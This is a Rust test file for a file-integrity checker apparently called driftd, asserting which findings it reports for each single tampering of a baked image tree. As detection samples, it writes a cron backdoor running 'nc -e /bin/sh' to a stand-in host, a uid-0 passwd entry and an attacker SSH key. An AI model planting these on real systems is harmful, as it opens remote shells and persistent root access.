//! The tamper matrix: every test builds a fresh image tree, bakes it,
//! asserts that an immediate check is clean, applies exactly one change and
//! asserts the exact finding set (path, kind, attributes) and exit status.

mod common;

use common::{exp, s, skip_unless_root, Dir};
use driftd::manifest::escape::unescape;
use std::fs::{self, FileTimes};
use std::os::unix::fs::MetadataExt;

/// A fresh standard tree, baked with the default policy, checked clean.
fn baked(name: &str) -> Dir {
    let d = Dir::standard(name);
    d.bake_and_assert_clean(&[]);
    d
}

// ---------------------------------------------------------------- content

#[test]
fn content_changed_with_same_size_and_mtime_is_modified() {
    let d = baked("same-size-mtime");
    let path = d.path("/etc/passwd");
    let before = fs::metadata(&path).unwrap();
    let new = b"toor:x:0:0:root:/root:/bin/sh\n";
    assert_eq!(new.len() as u64, before.len(), "test bug: size must match");
    d.rewrite("/etc/passwd", new);
    let f = fs::File::options().write(true).open(&path).unwrap();
    f.set_times(
        FileTimes::new()
            .set_modified(before.modified().unwrap())
            .set_accessed(before.accessed().unwrap()),
    )
    .unwrap();
    drop(f);
    let after = fs::metadata(&path).unwrap();
    assert_eq!(
        (after.len(), after.mtime(), after.mtime_nsec()),
        (before.len(), before.mtime(), before.mtime_nsec()),
        "test bug: size and mtime were not preserved"
    );
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/passwd", "modified", &["content"])]);
}

#[test]
fn content_changed_with_size_change_is_modified() {
    let d = baked("size-change");
    d.rewrite(
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nevil::0:0::/:/bin/sh\n",
    );
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/passwd", "modified", &["content", "size"])]);
    assert_eq!(
        c.change("/etc/passwd", "size").0,
        "30",
        "expected size from the manifest\n{c}"
    );
}

// ---------------------------------------------------------------- mode

#[test]
fn chmod_is_metadata_mode() {
    let d = baked("chmod");
    d.chmod("/etc/passwd", 0o666);
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/passwd", "metadata", &["mode"])]);
    let (old, new) = c.change("/etc/passwd", "mode");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("0644"), Some("0666")),
        "{c}"
    );
}

#[test]
fn setuid_bit_added_is_metadata_mode() {
    let d = baked("setuid");
    d.chmod("/usr/bin/tool", 0o4755);
    assert_eq!(d.mode("/usr/bin/tool"), 0o4755, "test bug: setuid not set");
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/bin/tool", "metadata", &["mode"])]);
    let (old, new) = c.change("/usr/bin/tool", "mode");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("0755"), Some("4755")),
        "{c}"
    );
}

#[test]
fn setgid_bit_added_is_metadata_mode() {
    let d = baked("setgid");
    d.chmod("/srv/share", 0o2755);
    assert_eq!(d.mode("/srv/share"), 0o2755, "test bug: setgid not set");
    let c = d.check();
    c.assert_findings(1, &[exp("/srv/share", "metadata", &["mode"])]);
    let (old, new) = c.change("/srv/share", "mode");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("0755"), Some("2755")),
        "{c}"
    );
}

#[test]
fn sticky_bit_added_is_metadata_mode() {
    let d = baked("sticky");
    d.chmod("/srv/share", 0o1755);
    let c = d.check();
    c.assert_findings(1, &[exp("/srv/share", "metadata", &["mode"])]);
    let (old, new) = c.change("/srv/share", "mode");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("0755"), Some("1755")),
        "{c}"
    );
}

// ---------------------------------------------------------------- owner

#[test]
fn chown_uid_is_metadata_uid() {
    if skip_unless_root("chown") {
        return;
    }
    let d = baked("chown");
    d.chown("/etc/passwd", Some(1234), None);
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/passwd", "metadata", &["uid"])]);
    let (old, new) = c.change("/etc/passwd", "uid");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("0"), Some("1234")),
        "{c}"
    );
}

#[test]
fn chgrp_is_metadata_gid() {
    if skip_unless_root("chgrp") {
        return;
    }
    let d = baked("chgrp");
    d.chown("/usr/lib/libx.so", None, Some(4321));
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/lib/libx.so", "metadata", &["gid"])]);
    let (old, new) = c.change("/usr/lib/libx.so", "gid");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("0"), Some("4321")),
        "{c}"
    );
}

// ---------------------------------------------------------------- symlinks and types

#[test]
fn symlink_retarget_same_length_is_modified_target() {
    let d = baked("retarget-same-length");
    d.remove("/usr/bin/alias");
    d.symlink("fool", "/usr/bin/alias");
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/bin/alias", "modified", &["target"])]);
    let (old, new) = c.change("/usr/bin/alias", "target");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("tool"), Some("fool")),
        "{c}"
    );
}

#[test]
fn symlink_retarget_other_length_is_modified_size_and_target() {
    let d = baked("retarget-other-length");
    d.remove("/usr/bin/alias");
    d.symlink("/bin/sh", "/usr/bin/alias");
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/bin/alias", "modified", &["size", "target"])]);
}

#[test]
fn file_replaced_by_symlink_is_type() {
    let d = baked("file-to-symlink");
    d.remove("/etc/passwd");
    d.symlink("/etc/shadow", "/etc/passwd");
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/passwd", "type", &["type"])]);
    let (old, new) = c.change("/etc/passwd", "type");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("file"), Some("symlink")),
        "{c}"
    );
}

#[test]
fn directory_replaced_by_file_is_type_and_children_removed() {
    let d = baked("dir-to-file");
    d.remove("/var/lib/app");
    d.write("/var/lib/app", "now a file\n");
    let c = d.check();
    c.assert_findings(
        1,
        &[
            exp("/var/lib/app", "type", &["type"]),
            exp("/var/lib/app/data", "removed", &[]),
            exp("/var/lib/app/sub", "removed", &[]),
            exp("/var/lib/app/sub/more", "removed", &[]),
        ],
    );
}

// ---------------------------------------------------------------- added and removed

#[test]
fn new_file_is_added() {
    let d = baked("new-file");
    d.write(
        "/etc/cron.d/backdoor",
        "* * * * * root nc -e /bin/sh evil 1\n",
    );
    let c = d.check();
    c.assert_findings(
        1,
        &[
            exp("/etc/cron.d", "added", &[]),
            exp("/etc/cron.d/backdoor", "added", &[]),
        ],
    );
}

#[test]
fn removed_file_is_removed() {
    let d = baked("removed-file");
    d.remove("/etc/passwd");
    d.check()
        .assert_findings(1, &[exp("/etc/passwd", "removed", &[])]);
}

#[test]
fn removed_directory_reports_it_and_its_contents() {
    let d = baked("removed-dir");
    d.remove("/var/lib/app");
    d.check().assert_findings(
        1,
        &[
            exp("/var/lib/app", "removed", &[]),
            exp("/var/lib/app/data", "removed", &[]),
            exp("/var/lib/app/sub", "removed", &[]),
            exp("/var/lib/app/sub/more", "removed", &[]),
        ],
    );
}

#[test]
fn hard_link_added_is_added_and_original_unchanged() {
    let d = baked("hard-link");
    d.hard_link("/usr/bin/tool", "/usr/bin/tool2");
    d.check()
        .assert_findings(1, &[exp("/usr/bin/tool2", "added", &[])]);
}

#[test]
fn empty_directory_added_is_added() {
    let d = baked("empty-dir");
    d.mkdir("/srv/share/empty");
    d.check()
        .assert_findings(1, &[exp("/srv/share/empty", "added", &[])]);
}

// ---------------------------------------------------------------- xattrs

#[test]
fn user_xattr_added_is_metadata_xattrs() {
    let d = baked("xattr-added");
    d.set_xattr("/etc/passwd", "user.note", b"v1");
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/passwd", "metadata", &["xattrs"])]);
    let (old, new) = c.change("/etc/passwd", "xattrs");
    assert_eq!(old.as_str(), Some("none"), "{c}");
    assert_eq!(new.as_str(), Some("user.note=0x7631"), "{c}");
}

#[test]
fn user_xattr_changed_is_metadata_xattrs() {
    let d = Dir::standard("xattr-changed");
    d.set_xattr("/etc/passwd", "user.note", b"v1");
    d.bake_and_assert_clean(&[]);
    d.set_xattr("/etc/passwd", "user.note", b"v2");
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/passwd", "metadata", &["xattrs"])]);
    let (old, new) = c.change("/etc/passwd", "xattrs");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("user.note=0x7631"), Some("user.note=0x7632")),
        "{c}"
    );
}

#[test]
fn user_xattr_removed_is_metadata_xattrs() {
    let d = Dir::standard("xattr-removed");
    d.set_xattr("/usr/lib/libx.so", "user.note", b"v1");
    d.set_xattr("/usr/lib/libx.so", "user.other", b"");
    d.bake_and_assert_clean(&[]);
    d.remove_xattr("/usr/lib/libx.so", "user.note");
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/lib/libx.so", "metadata", &["xattrs"])]);
    let (_, new) = c.change("/usr/lib/libx.so", "xattrs");
    assert_eq!(new.as_str(), Some("user.other=0x"), "{c}");
}

#[test]
fn user_xattr_on_directory_added_is_metadata_xattrs() {
    let d = baked("xattr-dir");
    d.set_xattr("/var/lib/app", "user.note", b"x");
    d.check()
        .assert_findings(1, &[exp("/var/lib/app", "metadata", &["xattrs"])]);
}

/// `struct vfs_cap_data` revision 2 granting CAP_NET_BIND_SERVICE (bit 10),
/// permitted and effective: what `setcap cap_net_bind_service+ep` writes.
const CAP_NET_BIND_SERVICE_EP: [u8; 20] = [
    0x01, 0x00, 0x00, 0x02, // magic_etc: VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE
    0x00, 0x04, 0x00, 0x00, // data[0].permitted
    0x00, 0x00, 0x00, 0x00, // data[0].inheritable
    0x00, 0x00, 0x00, 0x00, // data[1].permitted
    0x00, 0x00, 0x00, 0x00, // data[1].inheritable
];

#[test]
fn file_capability_added_is_metadata_xattrs() {
    if skip_unless_root("setting security.capability") {
        return;
    }
    let d = baked("capability");
    d.set_xattr(
        "/usr/bin/tool",
        "security.capability",
        &CAP_NET_BIND_SERVICE_EP,
    );
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/bin/tool", "metadata", &["xattrs"])]);
    let (_, new) = c.change("/usr/bin/tool", "xattrs");
    assert!(
        new.as_str()
            .is_some_and(|s| s.starts_with("security.capability=0x01000002")),
        "capability not rendered\n{c}"
    );
}

// ---------------------------------------------------------------- special files

#[test]
fn new_char_device_is_added() {
    if skip_unless_root("mknod") {
        return;
    }
    let d = baked("new-char-device");
    d.char_device("/usr/share/mem", 1, 3);
    d.check().assert_findings(
        1,
        &[
            exp("/usr/share", "added", &[]),
            exp("/usr/share/mem", "added", &[]),
        ],
    );
}

#[test]
fn char_device_number_change_is_modified_device() {
    if skip_unless_root("mknod") {
        return;
    }
    let d = Dir::standard("device-number");
    d.char_device("/usr/lib/nullish", 1, 3);
    d.bake_and_assert_clean(&[]);
    d.remove("/usr/lib/nullish");
    d.char_device("/usr/lib/nullish", 1, 5);
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/lib/nullish", "modified", &["device"])]);
    let (old, new) = c.change("/usr/lib/nullish", "device");
    assert_eq!(
        (old.as_str(), new.as_str()),
        (Some("1:3"), Some("1:5")),
        "{c}"
    );
}

#[test]
fn new_fifo_is_added() {
    let d = baked("new-fifo");
    d.fifo("/var/lib/app/pipe");
    d.check()
        .assert_findings(1, &[exp("/var/lib/app/pipe", "added", &[])]);
}

#[test]
fn new_socket_is_added() {
    let d = baked("new-socket");
    d.socket("/var/lib/app/sock");
    d.check()
        .assert_findings(1, &[exp("/var/lib/app/sock", "added", &[])]);
}

// ---------------------------------------------------------------- odd names

/// Raw name bytes and how driftd must print them.
const ODD_NAMES: &[(&[u8], &str)] = &[
    (b"new\nline", "new\\nline"),
    (b"tab\there", "tab\\there"),
    (b"back\\slash", "back\\\\slash"),
    (b"bad\xff\xfeutf8", "bad\\xff\\xfeutf8"),
    (b"-leading-dash", "-leading-dash"),
    (b" spaces  in name ", " spaces  in name "),
    (b"cr\rand\x01ctl\x7f", "cr\\rand\\x01ctl\\x7f"),
    (b"caf\xc3\xa9", "caf\u{e9}"),
];

/// A standard tree plus, for each odd name N: a file `/odd/N`, a directory
/// `/odd-dirs/N/` holding a file `inner`, and a symlink `/odd-links/N`
/// whose target is N itself.
fn odd_tree(name: &str) -> Dir {
    let d = Dir::standard(name);
    for (raw, _) in ODD_NAMES {
        let mut file = b"/odd/".to_vec();
        file.extend_from_slice(raw);
        d.write(&file, b"original odd content\n");
        let mut inner = b"/odd-dirs/".to_vec();
        inner.extend_from_slice(raw);
        inner.extend_from_slice(b"/inner");
        d.write(&inner, b"inner\n");
        let mut link = b"/odd-links/".to_vec();
        link.extend_from_slice(raw);
        d.symlink(raw, &link);
    }
    // Targets that collide with the manifest's own syntax.
    d.symlink("-", "/odd-links/dash-target");
    d.symlink("a\tb\nc\\d", "/odd-links/escaped-target");
    // An xattr name with the separators of the xattr field, and a binary
    // value.
    d.set_xattr("/odd/-leading-dash", "user.a=b;c", b"\0\xff\n;=");
    d
}

#[test]
fn odd_names_unchanged_are_clean() {
    let d = odd_tree("odd-unchanged");
    d.bake_and_assert_clean(&[]);
    // And the manifest holds every name byte for byte.
    let m = d.manifest();
    for (raw, shown) in ODD_NAMES {
        for prefix in [&b"/odd/"[..], b"/odd-dirs/", b"/odd-links/"] {
            let path = [prefix, raw].concat();
            assert!(
                m.find(&path).is_some(),
                "manifest lacks {}{shown}",
                String::from_utf8_lossy(prefix)
            );
        }
    }
}

/// Change the content of `/odd/NAME` (and, separately, `/odd-dirs/NAME/inner`
/// and the target of `/odd-links/NAME`) and expect each to be reported
/// with the escaped path, which must decode back to the raw bytes.
fn odd_name_changed(raw: &[u8], shown: &str) {
    let tag = format!(
        "odd-{}",
        shown.replace(|c: char| !c.is_ascii_alphanumeric(), "_")
    );
    let d = odd_tree(&tag);
    d.bake_and_assert_clean(&[]);
    let file = [&b"/odd/"[..], raw].concat();
    let inner = [&b"/odd-dirs/"[..], raw, b"/inner"].concat();
    let link = [&b"/odd-links/"[..], raw].concat();
    d.rewrite(&file, b"tampered odd content\n");
    d.rewrite(&inner, b"INNER\n");
    d.remove(&link);
    // One byte: no odd name is that short, so the size changes too.
    d.symlink(b"x", &link);
    let c = d.check();
    let shown_file = format!("/odd/{shown}");
    let shown_inner = format!("/odd-dirs/{shown}/inner");
    let shown_link = format!("/odd-links/{shown}");
    c.assert_findings(
        1,
        &[
            exp(&shown_file, "modified", &["content"]),
            exp(&shown_inner, "modified", &["content"]),
            exp(&shown_link, "modified", &["size", "target"]),
        ],
    );
    for (escaped, original) in [
        (&shown_file, &file),
        (&shown_inner, &inner),
        (&shown_link, &link),
    ] {
        assert_eq!(
            unescape(escaped.as_bytes()).as_ref(),
            Ok(original),
            "escaped path {escaped:?} does not decode to the raw bytes\n{c}"
        );
    }
}

macro_rules! odd_name_tests {
    ($($name:ident => $index:expr,)*) => {$(
        #[test]
        fn $name() {
            let (raw, shown) = ODD_NAMES[$index];
            odd_name_changed(raw, shown);
        }
    )*};
}

odd_name_tests! {
    odd_name_newline_changed_is_reported_escaped => 0,
    odd_name_tab_changed_is_reported_escaped => 1,
    odd_name_backslash_changed_is_reported_escaped => 2,
    odd_name_non_utf8_changed_is_reported_escaped => 3,
    odd_name_leading_dash_changed_is_reported_escaped => 4,
    odd_name_spaces_changed_is_reported_escaped => 5,
    odd_name_control_bytes_changed_is_reported_escaped => 6,
    odd_name_valid_utf8_changed_is_reported_verbatim => 7,
}

#[test]
fn odd_symlink_targets_round_trip_through_the_manifest() {
    let d = odd_tree("odd-targets");
    d.bake_and_assert_clean(&[]);
    let m = d.manifest();
    for (path, target) in [
        (&b"/odd-links/dash-target"[..], &b"-"[..]),
        (b"/odd-links/escaped-target", b"a\tb\nc\\d"),
    ] {
        let e = &m.entries[m.find(path).expect("link in manifest")];
        assert_eq!(
            e.target.as_deref(),
            Some(target),
            "target of {}",
            String::from_utf8_lossy(path)
        );
    }
}

// ---------------------------------------------------------------- policy: exclusions

#[test]
fn change_below_bake_exclude_glob_is_ignored() {
    let d = Dir::standard("exclude-glob-dir");
    d.bake_and_assert_clean(&["--exclude", "/srv/share"]);
    assert!(
        d.manifest().find(b"/srv/share").is_none(),
        "excluded path recorded in the manifest"
    );
    d.write("/srv/share/new", "anything\n");
    d.check().assert_clean();
}

#[test]
fn file_matching_bake_exclude_wildcard_is_ignored() {
    let d = Dir::standard("exclude-glob-wildcard");
    d.bake_and_assert_clean(&["--exclude", "/var/lib/app/*.tmp"]);
    d.write("/var/lib/app/session.tmp", "scratch\n");
    d.check().assert_clean();
}

#[test]
fn bake_exclude_wildcard_does_not_hide_other_files() {
    let d = Dir::standard("exclude-glob-control");
    d.bake_and_assert_clean(&["--exclude", "/var/lib/app/*.tmp"]);
    d.write("/var/lib/app/session.txt", "scratch\n");
    d.check()
        .assert_findings(1, &[exp("/var/lib/app/session.txt", "added", &[])]);
}

#[test]
fn change_in_default_excluded_tmp_is_ignored() {
    let d = baked("default-exclude-tmp");
    assert!(
        d.manifest().find(b"/tmp/scratch").is_none(),
        "/tmp recorded in the manifest"
    );
    d.rewrite("/tmp/scratch", "rewritten with another size\n");
    d.check().assert_clean();
}

#[test]
fn new_tree_in_default_excluded_var_log_is_ignored() {
    let d = baked("default-exclude-var-log");
    d.write("/var/log/auth.log", "session opened\n");
    d.check().assert_clean();
}

// ---------------------------------------------------------------- policy: allowances

#[test]
fn machine_id_content_change_is_allowed() {
    let d = baked("machine-id-content");
    d.chmod("/etc/machine-id", 0o644);
    d.rewrite(
        "/etc/machine-id",
        "fedcba9876543210fedcba9876543210\nlonger\n",
    );
    d.chmod("/etc/machine-id", 0o444);
    d.check().assert_clean();
}

#[test]
fn machine_id_chmod_is_still_metadata() {
    let d = baked("machine-id-chmod");
    d.chmod("/etc/machine-id", 0o644);
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/machine-id", "metadata", &["mode"])]);
}

#[test]
fn machine_id_replaced_by_symlink_is_still_type() {
    let d = baked("machine-id-type");
    d.remove("/etc/machine-id");
    d.symlink("/run/machine-id", "/etc/machine-id");
    d.check()
        .assert_findings(1, &[exp("/etc/machine-id", "type", &["type"])]);
}

#[test]
fn ssh_host_key_may_appear() {
    if skip_unless_root("a host key owned by root") {
        return;
    }
    let d = baked("ssh-host-key");
    d.write(
        "/etc/ssh/ssh_host_ed25519_key",
        "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    );
    d.chmod("/etc/ssh/ssh_host_ed25519_key", 0o600);
    d.check().assert_clean();
}

/// The standard tree with an image user database that has RHEL's
/// `ssh_keys` group (as gid 4242, which the machine running the test is
/// unlikely to have: the name must be found in the image), baked with
/// `extra` and checked clean.
fn with_ssh_keys_group(name: &str, extra: &[&str]) -> Dir {
    let d = Dir::standard(name);
    d.write("/etc/group", "root:x:0:\nssh_keys:x:4242:\nusers:x:100:\n");
    d.bake_and_assert_clean(extra);
    d
}

/// What sshd-keygen writes on first boot, on Debian and on RHEL.
fn real_host_keys(d: &Dir) {
    for (key, mode, gid) in [
        ("/etc/ssh/ssh_host_ed25519_key", 0o600, 0),
        ("/etc/ssh/ssh_host_ed25519_key.pub", 0o644, 0),
        ("/etc/ssh/ssh_host_ecdsa_key", 0o640, 4242),
        ("/etc/ssh/ssh_host_ecdsa_key.pub", 0o644, 0),
    ] {
        d.write(key, format!("{key}\n"));
        d.chmod(key, mode);
        d.chown(key, Some(0), Some(gid));
    }
}

#[test]
fn real_host_keys_debian_and_rhel_appear_clean_with_the_default_policy() {
    if skip_unless_root("host keys owned by root and ssh_keys") {
        return;
    }
    let d = with_ssh_keys_group("real-host-keys", &[]);
    real_host_keys(&d);
    d.check().assert_clean();
}

#[test]
fn a_host_key_of_another_group_than_the_allowed_ones_is_added_gid() {
    if skip_unless_root("a host key owned by root") {
        return;
    }
    let d = with_ssh_keys_group("host-key-users-group", &[]);
    d.write("/etc/ssh/ssh_host_rsa_key", "key\n");
    d.chmod("/etc/ssh/ssh_host_rsa_key", 0o640);
    d.chown("/etc/ssh/ssh_host_rsa_key", Some(0), Some(100));
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/ssh/ssh_host_rsa_key", "added", &["gid"])]);
    let (allowed, actual) = c.change("/etc/ssh/ssh_host_rsa_key", "gid");
    assert_eq!(allowed, "root (0) or ssh_keys (4242)", "{c}");
    assert_eq!(actual, "100", "{c}");
}

#[test]
fn ssh_keys_unknown_to_the_image_admits_nothing_and_says_so() {
    if skip_unless_root("a host key owned by root") {
        return;
    }
    // No /etc/group in the image at all, then one without ssh_keys.
    let d = baked("host-key-no-group-file");
    d.write("/etc/ssh/ssh_host_ecdsa_key", "key\n");
    d.chmod("/etc/ssh/ssh_host_ecdsa_key", 0o640);
    d.chown("/etc/ssh/ssh_host_ecdsa_key", Some(0), Some(4242));
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/ssh/ssh_host_ecdsa_key", "added", &["gid"])]);
    let allowed = c.change("/etc/ssh/ssh_host_ecdsa_key", "gid").0;
    let allowed = allowed.as_str().unwrap_or_default();
    assert!(
        allowed.starts_with(
            "root (0) or ssh_keys (unknown group: cannot read the image's /etc/group: "
        ),
        "{c}"
    );
    let d = Dir::standard("host-key-group-unknown");
    d.write("/etc/group", "root:x:0:\n");
    d.bake_and_assert_clean(&[]);
    d.write("/etc/ssh/ssh_host_ecdsa_key", "key\n");
    d.chmod("/etc/ssh/ssh_host_ecdsa_key", 0o640);
    d.chown("/etc/ssh/ssh_host_ecdsa_key", Some(0), Some(4242));
    let c = d.check();
    c.assert_findings(1, &[exp("/etc/ssh/ssh_host_ecdsa_key", "added", &["gid"])]);
    let allowed = c.change("/etc/ssh/ssh_host_ecdsa_key", "gid").0;
    assert_eq!(
        allowed, "root (0) or ssh_keys (unknown group: not in the image's /etc/group)",
        "{c}"
    );
}

#[test]
fn a_manifest_baked_with_bare_patterns_checks_with_the_narrow_default() {
    if skip_unless_root("host keys owned by root and ssh_keys") {
        return;
    }
    // The shape every manifest baked before tables has: strings only.
    let d = Dir::standard("bare-pattern-manifest");
    d.write("/etc/group", "root:x:0:\nssh_keys:x:4242:\n");
    let cfg = d.write_outside(
        "old.toml",
        "[policy.allow]\nmay_appear = [\"/etc/ssh/ssh_host_*\", \"/etc/machine-id\"]\n",
    );
    d.bake_and_assert_clean(&["--config", s(&cfg)]);
    let policy = serde_json::to_value(&d.manifest().header.policy).unwrap();
    assert_eq!(
        policy["allow"]["may_appear"],
        serde_json::json!(["/etc/ssh/ssh_host_*", "/etc/machine-id"])
    );
    real_host_keys(&d);
    // Narrow: root:root within 0644 only, so RHEL's root:ssh_keys key is
    // refused (a new bake with the shipped default admits it).
    d.check()
        .assert_findings(1, &[exp("/etc/ssh/ssh_host_ecdsa_key", "added", &["gid"])]);
    d.chmod("/etc/ssh/ssh_host_ed25519_key", 0o4755);
    d.check().assert_findings(
        1,
        &[
            exp("/etc/ssh/ssh_host_ecdsa_key", "added", &["gid"]),
            exp("/etc/ssh/ssh_host_ed25519_key", "added", &["mode"]),
        ],
    );
}

#[test]
fn a_table_allowance_from_the_config_is_baked_and_enforced() {
    if skip_unless_root("files owned by root") {
        return;
    }
    let d = Dir::standard("table-allowance");
    d.write(
        "/etc/passwd",
        "root:x:0:0::/root:/bin/sh\ncloud:x:4300:4300::/:/bin/false\n",
    );
    let cfg = d.write_outside(
        "tables.toml",
        "[[policy.allow.may_appear]]\n\
         paths = [\"/var/lib/cloud\"]\n\
         type = \"directory\"\n\
         mode = \"0755\"\n\
         owner = [\"cloud\"]\n\
         group = [4300]\n\
         below = true\n\
         [[policy.allow.may_appear]]\n\
         paths = [\"/srv/agent\"]\n\
         type = [\"file\", \"symlink\"]\n\
         mode = \"4755\"\n",
    );
    d.bake_and_assert_clean(&["--config", s(&cfg)]);
    d.mkdir("/var/lib/cloud/instance");
    d.chmod("/var/lib/cloud", 0o755);
    d.chown("/var/lib/cloud", Some(4300), Some(4300));
    d.write("/var/lib/cloud/instance/user-data", "#cloud-config\n");
    d.chmod("/var/lib/cloud/instance/user-data", 0o600);
    d.symlink("/usr/bin/tool", "/srv/agent");
    d.check().assert_clean();
    d.remove("/srv/agent");
    d.write("/srv/agent", "agent\n");
    d.chmod("/srv/agent", 0o4755);
    d.check().assert_clean();
    d.chmod("/srv/agent", 0o6755);
    d.chown("/var/lib/cloud", Some(0), Some(4300));
    let c = d.check();
    c.assert_findings(
        1,
        &[
            exp("/srv/agent", "added", &["mode"]),
            exp("/var/lib/cloud", "added", &["uid"]),
        ],
    );
    assert_eq!(c.change("/var/lib/cloud", "uid").0, "cloud (4300)", "{c}");
}

#[test]
fn other_file_next_to_ssh_host_keys_is_added() {
    let d = baked("ssh-other-key");
    d.write("/etc/ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n");
    d.check()
        .assert_findings(1, &[exp("/etc/ssh/authorized_keys", "added", &[])]);
}

// ---------------------------------------------------------------- policy: rules

/// A config whose only rule checks type and mode below /var/lib/app.
fn type_mode_config(d: &Dir) -> String {
    let p = d.write_outside(
        "driftd.toml",
        "[[policy.rules]]\npaths = [\"/var/lib/app/**\"]\nattributes = [\"type\", \"mode\"]\n",
    );
    p.to_str().expect("UTF-8 config path").to_string()
}

#[test]
fn type_mode_rule_ignores_content() {
    let d = Dir::standard("rule-ignores-content");
    let cfg = type_mode_config(&d);
    d.bake_and_assert_clean(&["--config", &cfg]);
    d.rewrite("/var/lib/app/data", "state 2, with another size\n");
    d.check().assert_clean();
}

#[test]
fn type_mode_rule_still_checks_mode() {
    let d = Dir::standard("rule-checks-mode");
    let cfg = type_mode_config(&d);
    d.bake_and_assert_clean(&["--config", &cfg]);
    d.chmod("/var/lib/app/data", 0o600);
    d.check()
        .assert_findings(1, &[exp("/var/lib/app/data", "metadata", &["mode"])]);
}

#[test]
fn type_mode_rule_does_not_apply_outside_its_paths() {
    let d = Dir::standard("rule-outside");
    let cfg = type_mode_config(&d);
    d.bake_and_assert_clean(&["--config", &cfg]);
    d.rewrite("/usr/lib/libx.so", "replaced library\n");
    d.check().assert_findings(
        1,
        &[exp("/usr/lib/libx.so", "modified", &["content", "size"])],
    );
}

// ---------------------------------------------------------------- policy: times and inodes

/// A config recording `extra` on top of the default below /usr/bin.
fn extra_attr_config(d: &Dir, extra: &str) -> String {
    let p = d.write_outside(
        "driftd.toml",
        format!(
            "[[policy.rules]]\npaths = [\"/usr/bin/**\"]\nattributes = [\"default\", \"{extra}\"]\n"
        ),
    );
    p.to_str().expect("UTF-8 config path").to_string()
}

#[test]
fn mtime_rule_reports_touch_as_metadata_mtime() {
    let d = Dir::standard("rule-mtime");
    let cfg = extra_attr_config(&d, "mtime");
    d.bake_and_assert_clean(&["--config", &cfg]);
    let f = fs::File::options()
        .write(true)
        .open(d.path("/usr/bin/tool"))
        .unwrap();
    f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::new(978_307_200, 5))
        .unwrap();
    drop(f);
    let c = d.check();
    c.assert_findings(1, &[exp("/usr/bin/tool", "metadata", &["mtime"])]);
    let (_, new) = c.change("/usr/bin/tool", "mtime");
    assert_eq!(new.as_str(), Some("978307200.000000005"), "{c}");
}

#[test]
fn default_policy_ignores_touch() {
    let d = baked("default-ignores-mtime");
    let f = fs::File::options()
        .write(true)
        .open(d.path("/usr/bin/tool"))
        .unwrap();
    f.set_modified(std::time::UNIX_EPOCH).unwrap();
    drop(f);
    d.check().assert_clean();
}

#[test]
fn inode_rule_reports_identical_replacement_as_metadata_inode() {
    let d = Dir::standard("rule-inode");
    let cfg = extra_attr_config(&d, "inode");
    d.bake_and_assert_clean(&["--config", &cfg]);
    // Same content, mode and owner; a new inode renamed over the old one.
    let content = d.read("/usr/bin/tool");
    d.write("/usr/bin/.tool.new", &content);
    d.chmod("/usr/bin/.tool.new", 0o755);
    fs::rename(d.path("/usr/bin/.tool.new"), d.path("/usr/bin/tool")).unwrap();
    d.check()
        .assert_findings(1, &[exp("/usr/bin/tool", "metadata", &["inode"])]);
}
